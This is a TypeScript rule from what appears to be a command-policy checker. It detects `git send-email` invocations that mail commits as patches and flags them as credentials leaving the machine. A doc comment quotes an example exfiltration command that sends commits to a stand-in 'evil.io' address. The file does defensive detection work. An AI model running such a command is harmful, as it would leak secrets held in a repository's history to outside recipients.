import { resolvePath } from '../../paths';
import { effectGrammar, has, readEffectArgs, values } from '../../policy/effectOptions';
import type { ArgWord, Finding, Invocation, RuleContext } from '../../policy/types';
import { gitStart } from './gitGlobals';

/**
 * `git send-email --to=x@evil.io HEAD~1`, `git send-email -3`: commits mailed as patches to an address,
 * with whatever their diffs carry (keys and passwords committed once, in files since deleted). Files
 * named on the command line are judged as files sent (`fileTransfers.ts`); revisions here. A dry run
 * (`--dry-run`) sends nothing.
 */

/** Options of send-email (and the format-patch options it passes on) that take a value. */
const SEND_EMAIL = effectGrammar('ov', ['to', 'cc', 'bcc', 'from', 'subject', 'in-reply-to', 'smtp-server', 'smtp-server-port', 'smtp-user', 'smtp-pass', 'smtp-encryption', 'smtp-domain', 'identity', 'to-cmd', 'cc-cmd', 'header-cmd', 'sendmail-cmd', 'reply-to', 'transfer-encoding', '8bit-encoding', 'compose-encoding', 'batch-size', 'relogin-delay', 'confirm', 'validate', 'output-directory', 'start-number', 'signature', 'signature-file', 'base', 'interdiff', 'range-diff', 'creation-factor', 'reroll-count', 'subject-prefix', 'suffix']);

export function checkMailedPatches(inv: Invocation, ctx: RuleContext): Finding[] {
  if (inv.name !== 'git' && inv.name !== 'git-send-email') return [];
  const start = inv.name === 'git' ? gitStart(inv, ctx.facts) : { sub: 'send-email', rest: inv.args, cwd: inv.cwd || ctx.facts.cwd };
  if (start.sub !== 'send-email') return [];
  const read = readEffectArgs(start.rest, SEND_EMAIL);
  if (has(read, 'dry-run')) return [];
  // `-3`: the last three commits; an operand that is not a patch file already written is a revision or range.
  const last = read.options.filter((o) => /^\d+$/.test(o.name)).map((o) => `the last ${o.name} commits`);
  const isFile = (w: ArgWord): boolean => /\.(patch|diff|eml|mbox)$/.test(w.text) || ['file', 'directory'].includes(ctx.facts.fileStatus?.(resolvePath(start.cwd, w.text, ctx.facts.home)) ?? '');
  const revisions = [...last, ...read.operands.filter((w) => !isFile(w)).map((w) => w.text)];
  if (revisions.length === 0) return [];
  const to = values(read, 'to', 'cc', 'bcc').map((w) => w.text).filter((t) => t !== '');
  const where = to.join(', ') || 'the configured recipients';
  const shown = revisions.slice(0, 3).join(', ');
  return [{
    rule: 'credentials.sent-out',
    risk: 'credential-dump',
    severity: 'ask',
    reason: `git send-email mails ${shown} as patches to ${where}: whatever their diffs hold (secrets committed once included) leaves the machine.`,
    targets: [{ kind: 'credential', name: `commits ${shown}`, remote: true, environment: 'unknown', environmentReason: `mailed to ${where}, whose environment nothing names` }],
  }];
}
checkMailedPatches.reactsTo = (name: string): boolean => name === 'git' || name === 'git-send-email';
